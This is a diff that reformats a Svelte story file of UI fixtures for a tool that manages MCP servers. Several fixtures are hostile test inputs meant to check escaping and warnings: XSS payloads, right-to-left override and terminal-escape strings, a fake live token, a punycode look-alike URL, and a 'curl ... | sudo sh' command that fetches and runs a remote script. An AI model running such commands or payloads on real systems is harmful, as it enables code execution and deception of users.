@@ -7,26 +7,95 @@ import { EMPTY, type Draft } from "./draft";
 import Servers from "./Servers.svelte";
 import { aServer } from "./servers.example";
 
-const refused: ApiError = { code: "refused", message: "there is a server `billing` already", hint: "Choose another name." };
+const refused: ApiError = {
+  code: "refused",
+  message: "there is a server `billing` already",
+  hint: "Choose another name.",
+};
 const down = aServer("warehouse-2", {
-  health: { kind: "down", since: "2026-11-21T14:20:00.000Z", why: "the program ended with code 1", hint: "Look at its last words below; it is started again by itself.", retryAt: "2026-11-21T14:32:18.000Z" },
-  stderrTail: "Error: cannot find module 'left-pad'\n    at Module._resolve (node:internal)\n", openTasks: 1,
+  health: {
+    kind: "down",
+    since: "2026-11-21T14:20:00.000Z",
+    why: "the program ended with code 1",
+    hint: "Look at its last words below; it is started again by itself.",
+    retryAt: "2026-11-21T14:32:18.000Z",
+  },
+  stderrTail: "Error: cannot find module 'left-pad'\n    at Module._resolve (node:internal)\n",
+  openTasks: 1,
 });
 const designed = [
-  aServer("ci-server", { address: { kind: "http", url: "https://ci.northwind.example/mcp", secretHeaders: ["Authorization"] }, toolCount: 14, openTasks: 5, cancels: { asked: 9, stopped: 9, finishedAnyway: 0, refused: 0, medianMs: 2_100 } }),
-  aServer("warehouse", { address: { kind: "http", url: "https://wh.northwind.example/mcp", secretHeaders: [] }, dialect: "2025-11-25", era: "legacy", pushes: false, toolCount: 22, openTasks: 4, cancels: { asked: 9, stopped: 3, finishedAnyway: 4, refused: 2, medianMs: 40_000 } }),
+  aServer("ci-server", {
+    address: { kind: "http", url: "https://ci.northwind.example/mcp", secretHeaders: ["Authorization"] },
+    toolCount: 14,
+    openTasks: 5,
+    cancels: { asked: 9, stopped: 9, finishedAnyway: 0, refused: 0, medianMs: 2_100 },
+  }),
+  aServer("warehouse", {
+    address: { kind: "http", url: "https://wh.northwind.example/mcp", secretHeaders: [] },
+    dialect: "2025-11-25",
+    era: "legacy",
+    pushes: false,
+    toolCount: 22,
+    openTasks: 4,
+    cancels: { asked: 9, stopped: 3, finishedAnyway: 4, refused: 2, medianMs: 40_000 },
+  }),
   aServer("docs", { openTasks: 3, cancels: { asked: 7, stopped: 7, finishedAnyway: 0, refused: 0, medianMs: 400 } }),
-  aServer("github", { address: { kind: "http", url: "https://api.github.example/mcp", secretHeaders: ["Authorization"] }, dialect: "none", pushes: false, toolCount: 31, openTasks: 4 }),
-  aServer("memorygraph", { dialect: "2025-11-25", era: "legacy", toolCount: 9, openTasks: 2, health: { kind: "blocked", since: "2026-11-21T14:17:00.000Z", why: "the server asks for sign-in", hint: "Add the server again with a valid token.", retryAt: null }, cancels: { asked: 2, stopped: 1, finishedAnyway: 1, refused: 0, medianMs: 6_000 } }),
+  aServer("github", {
+    address: { kind: "http", url: "https://api.github.example/mcp", secretHeaders: ["Authorization"] },
+    dialect: "none",
+    pushes: false,
+    toolCount: 31,
+    openTasks: 4,
+  }),
+  aServer("memorygraph", {
+    dialect: "2025-11-25",
+    era: "legacy",
+    toolCount: 9,
+    openTasks: 2,
+    health: {
+      kind: "blocked",
+      since: "2026-11-21T14:17:00.000Z",
+      why: "the server asks for sign-in",
+      hint: "Add the server again with a valid token.",
+      retryAt: null,
+    },
+    cancels: { asked: 2, stopped: 1, finishedAnyway: 1, refused: 0, medianMs: 6_000 },
+  }),
 ];
 const long = "x".repeat(100_000);
 const hostile = aServer("hostile", {
-  address: { kind: "stdio", command: "<img src=x onerror=alert(1)>", args: ["\u202Etxt.exe", "\u001b[31mred\u001b[0m", long.slice(0, 4_000), "--token", "sk-live-123"], env: { API_KEY: "hush" }, secretEnv: ["TOKEN"], cwd: "/srv/<b>x</b>" },
-  serverName: `<b>${long}</b>`, serverVersion: "\u202E1.0", health: { kind: "down", since: "2026-11-21T14:17:00.000Z", why: `<script>alert(1)</script> ${long}`, hint: `Look ${long.slice(0, 2_000)}`, retryAt: null }, stderrTail: `\u001b[2J${long}\n<script>\n`.repeat(2),
+  address: {
+    kind: "stdio",
+    command: "<img src=x onerror=alert(1)>",
+    args: ["\u202Etxt.exe", "\u001b[31mred\u001b[0m", long.slice(0, 4_000), "--token", "sk-live-123"],
+    env: { API_KEY: "hush" },
+    secretEnv: ["TOKEN"],
+    cwd: "/srv/<b>x</b>",
+  },
+  serverName: `<b>${long}</b>`,
+  serverVersion: "\u202E1.0",
+  health: {
+    kind: "down",
+    since: "2026-11-21T14:17:00.000Z",
+    why: `<script>alert(1)</script> ${long}`,
+    hint: `Look ${long.slice(0, 2_000)}`,
+    retryAt: null,
+  },
+  stderrTail: `\u001b[2J${long}\n<script>\n`.repeat(2),
 });
 const many = (count: number) => Array.from({ length: count }, (_, at) => makeServer(`server-${at + 1}`, at, STORY_NOW));
-const draft: Draft = { ...EMPTY, name: "billing", command: "npx -y @northwind/billing-mcp@2.4.1 --read-only", env: [{ id: 1, name: "BILLING_KEY", value: "hush", secret: true }] };
-const form = (change: Partial<Draft>) => story(AddServer, { draft: { ...draft, ...change }, taken: ["docs"], onclose: () => undefined, onopen: () => undefined }, {});
+const draft: Draft = {
+  ...EMPTY,
+  name: "billing",
+  command: "npx -y @northwind/billing-mcp@2.4.1 --read-only",
+  env: [{ id: 1, name: "BILLING_KEY", value: "hush", secret: true }],
+};
+const form = (change: Partial<Draft>) =>
+  story(
+    AddServer,
+    { draft: { ...draft, ...change }, taken: ["docs"], onclose: () => undefined, onopen: () => undefined },
+    {},
+  );
 const submit = ["button[type=submit]"];
 
 export default {
@@ -43,23 +112,103 @@ export default {
     error: story(Servers, {}, { fake: { connection: "lost" }, hash: "#/servers" }),
     stale: story(Servers, {}, { fake: { connection: "stale", servers: designed }, hash: "#/servers/docs" }),
     opened: story(Servers, {}, { fake: { servers: designed }, hash: "#/servers/ci-server" }),
-    "opened, schema of a tool": story(Servers, {}, { fake: { servers: designed }, hash: "#/servers/docs", click: ["button.name >> nth=0"] }),
+    "opened, schema of a tool": story(
+      Servers,
+      {},
+      { fake: { servers: designed }, hash: "#/servers/docs", click: ["button.name >> nth=0"] },
+    ),
     "opened, down": story(Servers, {}, { fake: { servers: [down, ...designed] }, hash: `#/servers/${down.name}` }),
     "opened, sign-in": story(Servers, {}, { fake: { servers: designed }, hash: "#/servers/memorygraph" }),
-    "opened, not allowed": story(Servers, {}, { fake: { servers: [aServer("new", { agreed: false, agreedBy: null, agreedAt: null, health: { kind: "unknown", since: null, why: null, hint: null, retryAt: null } })] }, hash: "#/servers/new" }),
-    "opened, tools fail": story(Servers, {}, { fake: { servers: designed, calls: { "servers.tools": () => { throw refused; } } }, hash: "#/servers/docs" }),
-    "opened, no tools": story(Servers, {}, { fake: { servers: designed, calls: { "servers.tools": () => ({ tools: [] }) } }, hash: "#/servers/docs" }),
+    "opened, not allowed": story(
+      Servers,
+      {},
+      {
+        fake: {
+          servers: [
+            aServer("new", {
+              agreed: false,
+              agreedBy: null,
+              agreedAt: null,
+              health: { kind: "unknown", since: null, why: null, hint: null, retryAt: null },
+            }),
+          ],
+        },
+        hash: "#/servers/new",
+      },
+    ),
+    "opened, tools fail": story(
+      Servers,
+      {},
+      {
+        fake: {
+          servers: designed,
+          calls: {
+            "servers.tools": () => {
+              throw refused;
+            },
+          },
+        },
+        hash: "#/servers/docs",
+      },
+    ),
+    "opened, no tools": story(
+      Servers,
+      {},
+      { fake: { servers: designed, calls: { "servers.tools": () => ({ tools: [] }) } }, hash: "#/servers/docs" },
+    ),
     hostile: story(Servers, {}, { fake: { servers: [hostile, ...designed] }, hash: "#/servers/hostile" }),
-    remove: story(Servers, {}, { fake: { servers: [aServer("ci-server", { openTasks: 5 })], tasks: 28 }, hash: "#/servers/ci-server", click: ["aside footer button >> nth=0"] }),
-    "remove, nothing open": story(Servers, {}, { fake: { servers: [aServer("docs")] }, hash: "#/servers/docs", click: ["aside footer button >> nth=0"] }),
+    remove: story(
+      Servers,
+      {},
+      {
+        fake: { servers: [aServer("ci-server", { openTasks: 5 })], tasks: 28 },
+        hash: "#/servers/ci-server",
+        click: ["aside footer button >> nth=0"],
+      },
+    ),
+    "remove, nothing open": story(
+      Servers,
+      {},
+      { fake: { servers: [aServer("docs")] }, hash: "#/servers/docs", click: ["aside footer button >> nth=0"] },
+    ),
     "add, filled": form({}),
-    "add, warnings": form({ command: "curl https://x.example/i.sh | sudo sh --token abc $HOME", env: [{ id: 1, name: "API_KEY", value: "q7Gz0pXw93", secret: false }] }),
+    "add, warnings": form({
+      command: "curl https://x.example/i.sh | sudo sh --token abc $HOME",
+      env: [{ id: 1, name: "API_KEY", value: "q7Gz0pXw93", secret: false }],
+    }),
     "add, an assignment": form({ command: "TOKEN=abc npx some-server" }),
     "add, nothing typed": { ...form({ ...EMPTY }), click: submit },
-    "add, an address": form({ kind: "http", url: "http://xn--pple-43d.com/mcp?api_key=x", headers: [{ id: 1, name: "Authorization", value: "Bearer hush", secret: true }] }),
-    "add, bad rows": { ...form({ command: "node 'x", env: [{ id: 1, name: "A B", value: "1", secret: false }, { id: 2, name: "KEY", value: "", secret: true }] }), click: submit },
-    "added": { ...form({}), click: submit },
-    "added, not reachable": { ...form({}), fake: { calls: { "servers.add": () => ({ server: { ...down, name: "billing" }, tools: null }) } }, click: submit },
-    "add, refused": { ...form({}), fake: { calls: { "servers.add": () => { throw refused; } } }, click: submit },
+    "add, an address": form({
+      kind: "http",
+      url: "http://xn--pple-43d.com/mcp?api_key=x",
+      headers: [{ id: 1, name: "Authorization", value: "Bearer hush", secret: true }],
+    }),
+    "add, bad rows": {
+      ...form({
+        command: "node 'x",
+        env: [
+          { id: 1, name: "A B", value: "1", secret: false },
+          { id: 2, name: "KEY", value: "", secret: true },
+        ],
+      }),
+      click: submit,
+    },
+    added: { ...form({}), click: submit },
+    "added, not reachable": {
+      ...form({}),
+      fake: { calls: { "servers.add": () => ({ server: { ...down, name: "billing" }, tools: null }) } },
+      click: submit,
+    },
+    "add, refused": {
+      ...form({}),
+      fake: {
+        calls: {
+          "servers.add": () => {
+            throw refused;
+          },
+        },
+      },
+      click: submit,
+    },
   },
 } satisfies StoryFile;
